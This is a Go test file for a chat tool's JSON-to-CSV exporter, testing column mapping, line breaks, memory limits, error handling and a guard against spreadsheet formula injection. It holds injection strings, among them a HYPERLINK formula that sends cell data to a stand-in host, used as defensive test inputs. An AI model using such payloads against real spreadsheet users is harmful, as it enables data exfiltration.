package table_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/cfchat/cfchat-go/cmd/cfchat/internal/table"
)

// one makes a table from one row and returns its cells.
func one(t *testing.T, kind, row string) map[string]string {
	t.Helper()
	return write(t, kind, []json.RawMessage{json.RawMessage(row)})[0]
}

func TestEveryColumnIsExplained(t *testing.T) {
	t.Parallel()
	if got := strings.Join(table.Kinds(), " "); got !=
		"conversations messages contacts inboxes agents agent_bots teams labels attribute_definitions" {
		t.Error(got)
	}
	for _, kind := range table.Kinds() {
		seen := map[string]bool{}
		for _, c := range table.Columns(kind) {
			if c.Name == "" || seen[c.Name] || !strings.HasSuffix(c.About, ".") {
				t.Errorf("%s: %+v", kind, c)
			}
			seen[c.Name] = true
		}
	}
	if got := table.Columns("webhooks"); got != nil {
		t.Error(got)
	}
}

func TestUnknownKind(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	n, err := table.Write(t.Context(), "webhooks", strings.NewReader("{}\n"), &out)
	if n != 0 || out.Len() > 0 || err == nil || !strings.Contains(err.Error(), `"webhooks"; choose one of conversations, `) {
		t.Error(n, err, out.String())
	}
}

// TestAssignee checks that a bot is not taken for a person.
func TestAssignee(t *testing.T) {
	t.Parallel()
	bots, people, nobody := 0, 0, 0
	for _, version := range []string{"2.16.0", "4.7.0", "4.16.2"} {
		rows := recorded(t, version, "conversations")
		for i, cells := range write(t, "conversations", rows) {
			var row struct {
				Meta struct {
					Assignee     *struct{ Role, Name string }
					AssigneeType string `json:"assignee_type"`
				}
			}
			if err := json.Unmarshal(rows[i], &row); err != nil {
				t.Fatal(err)
			}
			want := ""
			switch assignee := row.Meta.Assignee; {
			case assignee == nil:
				nobody++
			case row.Meta.AssigneeType == "AgentBot":
				want = "AgentBot"
				bots++
			default:
				want = "User"
				people++
			}
			if cells["assignee_type"] != want || (cells["assignee_id"] == "") != (want == "") {
				t.Errorf("got %q %q, want %q, in %s", cells["assignee_type"], cells["assignee_id"], want, rows[i])
			}
		}
	}
	if people == 0 || nobody == 0 {
		t.Error("assigned to a bot, a person and nobody:", bots, people, nobody)
	}
	cells := one(t, "conversations",
		`{"id":1,"meta":{"assignee_type":"AgentBot","assignee":{"id":3,"name":"=Bot","bot_type":"webhook"}}}`)
	if cells["assignee_type"] != "AgentBot" || cells["assignee_id"] != "3" || cells["assignee_name"] != "'=Bot" {
		t.Errorf("%q", cells)
	}
}

func TestMessageTypes(t *testing.T) {
	t.Parallel()
	for number, want := range []string{"incoming", "outgoing", "activity", "template", "4"} {
		if got := one(t, "messages", fmt.Sprintf(`{"message_type":%d}`, number))["message_type"]; got != want {
			t.Errorf("%d is %q, not %q", number, got, want)
		}
	}
}

func TestAttachments(t *testing.T) {
	t.Parallel()
	cells := one(t, "messages", `{"id":1,"attachments":[`+
		`{"id":9,"data_url":"https://x.test/b"},null,{"id":7,"data_url":"https://x.test/a"},{"id":8,"coordinates_lat":1.5}]}`)
	if cells["attachments_count"] != "4" || cells["attachments_data_url"] != "https://x.test/a, https://x.test/b" {
		t.Errorf("%q", cells)
	}
	if cells = one(t, "messages", `{"id":1}`); cells["attachments_count"] != "0" || cells["attachments_data_url"] != "" {
		t.Errorf("%q", cells)
	}
}

func TestContactInboxes(t *testing.T) {
	t.Parallel()
	cells := one(t, "contacts",
		`{"id":1,"contact_inboxes":[{"source_id":"a-1","inbox":{"id":4}},{"source_id":"b-2","inbox":{"id":2}}]}`)
	if cells["inbox_ids"] != "4, 2" || cells["source_ids"] != "a-1, b-2" {
		t.Errorf("%q", cells)
	}
}

func TestInvalidTimeStaysText(t *testing.T) {
	t.Parallel()
	if got := one(t, "conversations", `{"id":1,"snoozed_until":"=later"}`)["snoozed_until"]; got != "'=later" {
		t.Error(got)
	}
}

func TestAttributesAreAsReceived(t *testing.T) {
	t.Parallel()
	for _, received := range []string{`{"b":1.50,"a":"\u003d \"x\", é","n":12345678901234567890}`, `{}`, `[]`, `null`} {
		cells := one(t, "contacts", `{"id":1,"custom_attributes":`+received+`}`)
		if cells["custom_attributes"] != received || cells["additional_attributes"] != "" {
			t.Errorf("%q", cells)
		}
	}
	for _, received := range []string{`["a, b","<c>",2]`, `[]`} {
		cells := one(t, "attribute_definitions", `{"id":1,"attribute_values":`+received+`}`)
		if got := cells["attribute_values"]; got != received {
			t.Error(got)
		}
	}
}

// formulas has the prefixes of OWASP's list, and equivalent ones.
var formulas = []string{
	"=1+1", "+49301234567", "-1", "@SUM(1)", "\ttab", "\rreturn", "\nline", " =1", "\u00a0=1", "\u3000@x", " \t-1", "\x00=1",
	"\ufeff=1", "\u200b=1", "\u202e+1", "＝1", "＋1", "－1", "＠x", " ＝1", "=HYPERLINK(\"https://x.test?\"&A1,\"a, b\")", "=", "\r\n=1",
}

func TestFormulas(t *testing.T) {
	t.Parallel()
	for _, formula := range formulas {
		content, err := json.Marshal(map[string]string{"content": formula})
		if err != nil {
			t.Fatal(err)
		}
		want := "'" + strings.ReplaceAll(formula, "\r\n", "\n")
		if got := one(t, "messages", string(content))["content"]; got != want {
			t.Errorf("%q: got %q, want %q", formula, got, want)
		}
	}
	for _, harmless := range []string{"", "a=1", "1+1", "'=1", "!", "é", "–1", "x\n=1", " x", "#1f93ff", "\u200b"} {
		content, err := json.Marshal(map[string]string{"content": harmless})
		if err != nil {
			t.Fatal(err)
		}
		if got := one(t, "messages", string(content))["content"]; got != harmless {
			t.Errorf("%q was changed to %q", harmless, got)
		}
	}
}

// TestNoColumnHasAFormula checks that no text in a row, including the server's words, becomes a formula.
func TestNoColumnHasAFormula(t *testing.T) {
	t.Parallel()
	for _, kind := range table.Kinds() {
		guarded := 0
		var rows []json.RawMessage
		for _, row := range recorded(t, "4.16.2", kind) {
			var value any
			if err := json.Unmarshal(row, &value); err != nil {
				t.Fatal(err)
			}
			poisoned, err := json.Marshal(poison(value))
			if err != nil {
				t.Fatal(err)
			}
			rows = append(rows, poisoned)
		}
		for _, cells := range write(t, kind, rows) {
			for name, got := range cells {
				if strings.HasPrefix(got, "=") {
					t.Errorf("%s %s: %q", kind, name, got)
				}
				if strings.HasPrefix(got, "'=") {
					guarded++
				}
			}
		}
		if guarded == 0 {
			t.Errorf("no cell of %s had a formula to guard", kind)
		}
	}
}

// poison turns each text in JSON into a formula.
func poison(value any) any {
	switch value := value.(type) {
	case string:
		return "=" + value
	case []any:
		for i := range value {
			value[i] = poison(value[i])
		}
	case map[string]any:
		for key := range value {
			if key != "assignee_type" { // it determines how the rest is read
				value[key] = poison(value[key])
			}
		}
	}
	return value
}

func TestNumbersAndTimesAreNotText(t *testing.T) {
	t.Parallel()
	cells := one(t, "conversations",
		`{"id":-5,"unread_count":-3,"created_at":-86400,"snoozed_until":"2030-01-01T01:00:00.500+01:00"}`)
	if cells["id"] != "-5" || cells["unread_count"] != "-3" || cells["created_at"] != "1969-12-31T00:00:00Z" ||
		cells["snoozed_until"] != "2030-01-01T00:00:00.5Z" {
		t.Errorf("%q", cells)
	}
}

func TestLineBreaks(t *testing.T) {
	t.Parallel()
	for content, want := range map[string]string{
		"a\nb": "a\nb", "a\r\nb": "a\nb", "a\rb": "a\rb", "a\r\r\nb": "a\r\nb", "a\r": "a\r", "a\n": "a\n", "a\r\n": "a\n",
		"\"a\"\n,b": "\"a\"\n,b", `\.`: `\.`,
	} {
		row, err := json.Marshal(map[string]any{"id": 1, "content": content, "source_id": "after"})
		if err != nil {
			t.Fatal(err)
		}
		if cells := one(t, "messages", string(row)); cells["content"] != want || cells["source_id"] != "after" {
			t.Errorf("%q: %q", content, cells)
		}
	}
}

// bigFile is a reader of rows of two megabytes each.
type bigFile struct{ rows, at int }

func (b *bigFile) Read(p []byte) (int, error) {
	const row = 2 << 20
	if b.at == b.rows*row {
		return 0, io.EOF
	}
	n := 0
	for ; n < len(p) && b.at < b.rows*row; n++ {
		const head, tail = `{"id":7,"content":"`, "\"}\n"
		switch place := b.at % row; {
		case place < len(head):
			p[n] = head[place]
		case place >= row-len(tail):
			p[n] = tail[place-(row-len(tail))]
		default:
			p[n] = 'x'
		}
		b.at++
	}
	return n, nil
}

// counted is a writer that measures the memory in use now and then.
type counted struct{ written, since, most int }

func (c *counted) Write(p []byte) (int, error) {
	c.written += len(p)
	if c.since += len(p); c.since > 8<<20 {
		c.since = 0
		runtime.GC()
		var memory runtime.MemStats
		runtime.ReadMemStats(&memory)
		c.most = max(c.most, int(memory.HeapAlloc))
	}
	return len(p), nil
}

func TestHugeLinesInLittleMemory(t *testing.T) { //nolint:paralleltest // it measures the program's memory
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	out := new(counted)
	n, err := table.Write(t.Context(), "messages", &bigFile{rows: 40}, out)
	if err != nil || n != 40 || out.written < 40*(2<<20-100) {
		t.Fatal(n, err, out.written)
	}
	if more := out.most - int(before.HeapAlloc); more > 16<<20 {
		t.Errorf("80 MB took %d bytes of memory", more)
	}
}

func TestBadLines(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ line, want string }{
		"half a line":    {`{"id":3,"content":"hal`, "line 4: this is half a JSON object"},
		"a bracket less": {`{"id":3,"custom_attributes":{"a":1}`, "line 4: this is half a JSON object"},
		"two":            {`{"id":3}{"id":4}`, "line 4: this is half a JSON object, or a broken one"},
		"null":           {`null`, "line 4: this is not a JSON object"},
		"a list":         {`[{"id":3}]`, "line 4: this is not a JSON object"},
		"CSV":            {`id,content`, "line 4: this is not a JSON object"},
		"another field":  {`{"id":"three"}`, "line 4: "},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			lines := `{"id":1}` + "\r\n\n" + `{"id":2}` + "\n" + test.line
			n, err := table.Write(t.Context(), "messages", strings.NewReader(lines), &out)
			if n != 2 || err == nil || !strings.HasPrefix(err.Error(), test.want) {
				t.Errorf("%d rows, %v", n, err)
			}
			if rows := readBack(t, "messages", &out); len(rows) != 2 || rows[1]["id"] != "2" {
				t.Errorf("%q", rows)
			}
		})
	}
}

func TestNoRows(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	n, err := table.Write(t.Context(), "labels", strings.NewReader("\n \n"), &out)
	if n != 0 || err != nil || out.String() != "id,title,description,color,show_on_sidebar\n" {
		t.Error(n, err, out.String())
	}
}

// ending is a reader that ends a context at the third row.
type ending struct {
	rows int
	end  context.CancelFunc
}

func (e *ending) Read(p []byte) (int, error) {
	if e.rows++; e.rows == 3 {
		e.end()
	}
	return copy(p, `{"id":1}`+"\n"), nil
}

func TestContextEnds(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(t.Context())
	var out bytes.Buffer
	n, err := table.Write(ctx, "labels", &ending{end: cancel}, &out)
	if n != 2 || !errors.Is(err, context.Canceled) || len(readBack(t, "labels", &out)) != 2 {
		t.Error(n, err)
	}
	if n, err := table.Write(ctx, "labels", strings.NewReader(""), io.Discard); n != 0 || !errors.Is(err, context.Canceled) {
		t.Error(n, err)
	}
}

var errDisk = errors.New("the disk is full")

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errDisk }
func (broken) Read([]byte) (int, error)  { return 0, errDisk }

func TestBrokenFiles(t *testing.T) {
	t.Parallel()
	if _, err := table.Write(t.Context(), "labels", strings.NewReader(`{"id":1}`), broken{}); !errors.Is(err, errDisk) {
		t.Error(err)
	}
	rows := strings.Repeat(`{"id":1}`+"\n", 10_000)
	n, err := table.Write(t.Context(), "labels", strings.NewReader(rows), broken{})
	if !errors.Is(err, errDisk) || n > 5000 {
		t.Error(n, err)
	}
	n, err = table.Write(t.Context(), "labels", io.MultiReader(strings.NewReader(`{"id":1}`+"\n"), broken{}), io.Discard)
	if n != 1 || !errors.Is(err, errDisk) {
		t.Error(n, err)
	}
}
